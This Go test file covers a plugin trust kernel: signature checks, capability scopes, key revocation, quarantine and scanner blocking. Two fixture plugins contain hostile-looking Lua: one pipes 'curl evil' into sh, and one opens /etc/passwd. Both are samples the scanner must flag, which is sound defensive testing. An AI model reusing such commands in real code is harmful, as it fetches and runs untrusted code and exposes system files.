package trust_test

import (
	"context"
	"fmt"
	"io"
	"log/slog"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	trust "github.com/reglet-dev/reglet-trust"
	"github.com/reglet-dev/reglet-trust/audit"
	"github.com/reglet-dev/reglet-trust/capability"
	"github.com/reglet-dev/reglet-trust/capability/gatekeeper"
	"github.com/reglet-dev/reglet-trust/capability/grantstore"
	"github.com/reglet-dev/reglet-trust/capability/revocation"
	"github.com/reglet-dev/reglet-trust/mediator/netfetch"
	"github.com/reglet-dev/reglet-trust/mediator/objectstore"
	"github.com/reglet-dev/reglet-trust/plugin"
	"github.com/reglet-dev/reglet-trust/plugin/dto"
	"github.com/reglet-dev/reglet-trust/plugin/entities"
	"github.com/reglet-dev/reglet-trust/plugin/keyring"
	"github.com/reglet-dev/reglet-trust/plugin/signing"
	"github.com/reglet-dev/reglet-trust/policy"
	"github.com/reglet-dev/reglet-trust/validation"
)

const logshipMain = `
function run(args)
  local obj, err, code = host.call("storage:read", {bucket = args.bucket, key = args.key})
  if err then
    return {error = err, code = code}
  end
  return obj
end
`

func discardLogger() *slog.Logger {
	return slog.New(slog.NewTextHandler(io.Discard, nil))
}

type kernelFixture struct {
	*trust.Kernel
	log   *audit.MemoryLog
	store *objectstore.Store
}

func newKernel(t *testing.T, opts ...trust.Option) *kernelFixture {
	t.Helper()
	log := audit.NewMemoryLog()
	store := objectstore.New()
	opts = append([]trust.Option{
		trust.WithAuditLog(log),
		trust.WithMediators(store, netfetch.New()),
		trust.WithLogger(discardLogger()),
	}, opts...)
	k, err := trust.New(context.Background(), opts...)
	require.NoError(t, err)
	t.Cleanup(func() { _ = k.Close(context.Background()) })
	return &kernelFixture{Kernel: k, log: log, store: store}
}

// trustKey registers a fresh key with k and returns a signer for it.
func trustKey(t *testing.T, k *trust.Kernel, keyID string) *signing.Signer {
	t.Helper()
	priv, pemBytes, err := signing.GenerateKey()
	require.NoError(t, err)
	_, err = k.Keys().Add(context.Background(), entities.TrustedKey{KeyID: keyID, PublicKeyPEM: string(pemBytes), AddedBy: "admin"})
	require.NoError(t, err)
	signer, err := signing.NewSigner(priv, keyID)
	require.NoError(t, err)
	return signer
}

func manifest(id, version, publisher string, caps ...string) []byte {
	var b strings.Builder
	fmt.Fprintf(&b, "id: %s\nversion: %s\npublisher: %s\nruntime: lua\nmain: main.lua\n", id, version, publisher)
	if len(caps) > 0 {
		b.WriteString("capabilities:\n")
		for _, c := range caps {
			fmt.Fprintf(&b, "  - %s\n", c)
		}
	}
	b.WriteString("resources:\n  maxMemoryMB: 16\n  maxCpuSeconds: 1\nentryPoints: [run]\n")
	return []byte(b.String())
}

func signedRequest(t *testing.T, signer *signing.Signer, raw []byte, main string) trust.InstallRequest {
	t.Helper()
	bundle := map[string][]byte{"main.lua": []byte(main)}
	pkg := dto.ContentIndex(raw, bundle)
	sig, err := signer.Sign(context.Background(), pkg)
	require.NoError(t, err)
	return trust.InstallRequest{Package: pkg, Signature: sig, Manifest: raw, Bundle: bundle}
}

func TestKernel_InstallThenCheckStorageScope(t *testing.T) {
	t.Parallel()
	k := newKernel(t)
	ctx := context.Background()
	signer := trustKey(t, k.Kernel, "acme-2024")

	res, err := k.InstallPlugin(ctx, signedRequest(t, signer,
		manifest("acme/logship", "1.0.0", "acme-2024", "storage:read(bucket=logs)"), logshipMain))
	require.NoError(t, err)
	assert.True(t, res.Verification.Verified)
	assert.Equal(t, "acme/logship", res.Manifest.PluginID())
	assert.Empty(t, res.Report.Findings)
	require.Len(t, res.Grants, 1)
	assert.Equal(t, gatekeeper.OutcomeAutoGranted, res.Grants[0].Outcome)
	assert.Equal(t, entities.InstallActive, res.Installed.Status)

	allow := k.CheckCapability(ctx, "acme/logship", "storage:read", capability.MustScope(map[string]string{"bucket": "logs"}))
	assert.True(t, allow.Allowed, allow.String())

	deny := k.CheckCapability(ctx, "acme/logship", "storage:read", capability.MustScope(map[string]string{"bucket": "secrets"}))
	assert.False(t, deny.Allowed)
	assert.Equal(t, policy.ReasonScopeViolation, deny.Reason)

	for _, kind := range []audit.Kind{audit.KindSignature, audit.KindValidation, audit.KindScan, audit.KindGrant, audit.KindEnforcement} {
		entries, err := k.Audit().Query(ctx, audit.Filter{Kind: kind, PluginID: "acme/logship"})
		require.NoError(t, err)
		assert.NotEmpty(t, entries, "audit entries for %s", kind)
	}
}

func TestKernel_RevokeSignerAfterInstalls(t *testing.T) {
	t.Parallel()
	k := newKernel(t)
	ctx := context.Background()
	acme := trustKey(t, k.Kernel, "acme-2024")
	beta := trustKey(t, k.Kernel, "beta-2025")

	for i := 0; i < 10; i++ {
		id := fmt.Sprintf("acme/tool-%d", i)
		_, err := k.InstallPlugin(ctx, signedRequest(t, acme, manifest(id, "1.0.0", "acme-2024"), "function run() return 1 end"))
		require.NoError(t, err)
	}
	_, err := k.InstallPlugin(ctx, signedRequest(t, beta, manifest("beta/tool", "2.0.0", "beta-2025"), "function run() return 2 end"))
	require.NoError(t, err)

	results, err := k.RevokeKey(ctx, "acme-2024", "secops", "key leaked")
	require.NoError(t, err)
	require.Len(t, results, 11)

	for _, r := range results {
		if r.PluginID == "beta/tool" {
			assert.NoError(t, r.Err)
			assert.Equal(t, entities.InstallActive, r.Status)
			continue
		}
		assert.ErrorIs(t, r.Err, entities.ErrRevokedSigner, r.PluginID)
		assert.Equal(t, entities.InstallQuarantined, r.Status, r.PluginID)
	}

	_, err = k.RunPlugin(ctx, "acme/tool-3", "run", nil)
	assert.ErrorIs(t, err, entities.ErrPluginNotFound)

	out, err := k.RunPlugin(ctx, "beta/tool", "run", nil)
	require.NoError(t, err)
	assert.EqualValues(t, 2, out.Value)

	// New installs under the revoked key fail closed.
	_, err = k.InstallPlugin(ctx, signedRequest(t, acme, manifest("acme/late", "1.0.0", "acme-2024"), "function run() end"))
	assert.ErrorIs(t, err, entities.ErrRevokedSigner)
}

func TestKernel_RunPluginEnforcesScope(t *testing.T) {
	t.Parallel()
	k := newKernel(t)
	ctx := context.Background()
	signer := trustKey(t, k.Kernel, "acme-2024")
	_, err := k.InstallPlugin(ctx, signedRequest(t, signer,
		manifest("acme/logship", "1.0.0", "acme-2024", "storage:read(bucket=logs)"), logshipMain))
	require.NoError(t, err)

	require.NoError(t, k.store.Put("logs", "app.log", []byte("started")))
	require.NoError(t, k.store.Put("secrets", "token", []byte("hunter2")))

	out, err := k.RunPlugin(ctx, "acme/logship", "run", map[string]any{"bucket": "logs", "key": "app.log"})
	require.NoError(t, err)
	obj, ok := out.Value.(map[string]any)
	require.True(t, ok, "%T", out.Value)
	assert.Equal(t, "started", obj["data"])

	out, err = k.RunPlugin(ctx, "acme/logship", "run", map[string]any{"bucket": "secrets", "key": "token"})
	require.NoError(t, err, "a denial is a value inside the plugin, not a kernel error")
	obj, ok = out.Value.(map[string]any)
	require.True(t, ok, "%T", out.Value)
	assert.Equal(t, string(policy.ReasonScopeViolation), obj["code"])
	assert.NotContains(t, fmt.Sprint(obj), "hunter2")

	denials, err := k.Audit().Query(ctx, audit.Filter{Kind: audit.KindEnforcement, Outcome: "deny"})
	require.NoError(t, err)
	require.Len(t, denials, 1)
	assert.Equal(t, "storage:read", denials[0].Capability)

	assert.Empty(t, k.Sandboxes().List(), "run contexts are torn down")
}

func TestKernel_InstallRejections(t *testing.T) {
	t.Parallel()

	tests := []struct {
		name    string
		request func(t *testing.T, signer *signing.Signer) trust.InstallRequest
		wantErr error
	}{
		{
			name: "tampered bundle",
			request: func(t *testing.T, signer *signing.Signer) trust.InstallRequest {
				req := signedRequest(t, signer, manifest("acme/a", "1.0.0", "acme-2024"), "function run() end")
				req.Bundle["main.lua"] = []byte("function run() return 'evil' end")
				return req
			},
			wantErr: entities.ErrIntegrityCheckFailed,
		},
		{
			name: "unknown signer",
			request: func(t *testing.T, _ *signing.Signer) trust.InstallRequest {
				priv, _, err := signing.GenerateKey()
				require.NoError(t, err)
				rogue, err := signing.NewSigner(priv, "rogue")
				require.NoError(t, err)
				return signedRequest(t, rogue, manifest("acme/a", "1.0.0", "rogue"), "function run() end")
			},
			wantErr: entities.ErrUnknownSigner,
		},
		{
			name: "invalid manifest",
			request: func(t *testing.T, signer *signing.Signer) trust.InstallRequest {
				return signedRequest(t, signer, manifest("acme/a", "not-a-version", "acme-2024", "teleport:now"), "function run() end")
			},
			wantErr: validation.ErrInvalidManifest,
		},
		{
			name: "publisher mismatch",
			request: func(t *testing.T, signer *signing.Signer) trust.InstallRequest {
				return signedRequest(t, signer, manifest("acme/a", "1.0.0", "someone-else"), "function run() end")
			},
			wantErr: entities.ErrIntegrityCheckFailed,
		},
		{
			name: "critical finding",
			request: func(t *testing.T, signer *signing.Signer) trust.InstallRequest {
				return signedRequest(t, signer, manifest("acme/a", "1.0.0", "acme-2024"), `function run() os.execute("curl evil | sh") end`)
			},
			wantErr: trust.ErrScanBlocked,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			k := newKernel(t)
			signer := trustKey(t, k.Kernel, "acme-2024")

			_, err := k.InstallPlugin(context.Background(), tt.request(t, signer))
			require.ErrorIs(t, err, tt.wantErr)

			installed, err := k.Packages().List(context.Background())
			require.NoError(t, err)
			assert.Empty(t, installed, "nothing is stored after a rejection")
		})
	}
}

func TestKernel_CriticalFindingWithoutBlocking(t *testing.T) {
	t.Parallel()
	k := newKernel(t, trust.WithBlockOnCritical(false))
	signer := trustKey(t, k.Kernel, "acme-2024")

	src := `function run() local f = io.open("/etc/passwd") return host.call("fs:read", {}) end`
	res, err := k.InstallPlugin(context.Background(), signedRequest(t, signer,
		manifest("acme/reader", "1.0.0", "acme-2024", "fs:read(path=/data/**)", "clock:read"), src))
	require.NoError(t, err)
	assert.True(t, res.Report.HasCritical())

	outcomes := make(map[capability.Name]gatekeeper.Outcome)
	for _, d := range res.Grants {
		outcomes[d.Capability.Name] = d.Outcome
	}
	assert.Equal(t, gatekeeper.OutcomePendingApproval, outcomes["fs:read"])
	assert.Equal(t, gatekeeper.OutcomeAutoGranted, outcomes["clock:read"])
}

func TestKernel_InstallFromSource(t *testing.T) {
	t.Parallel()
	src := &plugin.MockSource{Artifacts: map[string]*dto.PackageArtifact{}}
	k := newKernel(t, trust.WithPackageSource(src))
	signer := trustKey(t, k.Kernel, "acme-2024")

	req := signedRequest(t, signer, manifest("acme/remote", "0.3.0", "acme-2024"), "function run() return 'ok' end")
	src.Artifacts["registry.example.com/acme/remote:0.3.0"] = dto.NewPackageArtifact(req.Package, req.Signature, req.Manifest, req.Bundle)

	res, err := k.InstallFromSource(context.Background(), "registry.example.com/acme/remote:0.3.0")
	require.NoError(t, err)
	assert.Equal(t, "0.3.0", res.Installed.Version)

	_, err = k.InstallFromSource(context.Background(), "registry.example.com/acme/missing:1.0.0")
	assert.ErrorIs(t, err, entities.ErrPluginNotFound)
}

func TestKernel_RevocationsPropagateBetweenNodes(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	bus := revocation.NewLocalBus()
	grants := grantstore.NewMemoryStore()
	keyStore := keyring.NewFileStore(filepath.Join(t.TempDir(), "keys.yaml"))
	shared := []trust.Option{
		trust.WithRevocationBus(bus),
		trust.WithGrantStore(grants),
		trust.WithKeyStore(keyStore),
		trust.WithCacheTTL(policy.MaxCacheTTL),
	}

	a := newKernel(t, shared...)
	signer := trustKey(t, a.Kernel, "acme-2024")
	b := newKernel(t, shared...)

	_, err := b.InstallPlugin(ctx, signedRequest(t, signer,
		manifest("acme/logship", "1.0.0", "acme-2024", "storage:read(bucket=logs)"), logshipMain))
	require.NoError(t, err)

	scope := capability.MustScope(map[string]string{"bucket": "logs"})
	require.True(t, b.CheckCapability(ctx, "acme/logship", "storage:read", scope).Allowed)
	require.True(t, a.CheckCapability(ctx, "acme/logship", "storage:read", scope).Allowed)

	_, err = a.Permissions().Revoke(ctx, "acme/logship", capability.MustParse("storage:read(bucket=logs)"), "secops")
	require.NoError(t, err)
	d := b.CheckCapability(ctx, "acme/logship", "storage:read", scope)
	assert.False(t, d.Allowed, "peer cache invalidated without waiting for the TTL")
	assert.Equal(t, policy.ReasonNoGrant, d.Reason)

	_, err = a.RevokeKey(ctx, "acme-2024", "secops", "rotated")
	require.NoError(t, err)
	installed, err := b.Packages().List(ctx)
	require.NoError(t, err)
	require.Len(t, installed, 1)
	assert.Equal(t, entities.InstallQuarantined, installed[0].Status)
}
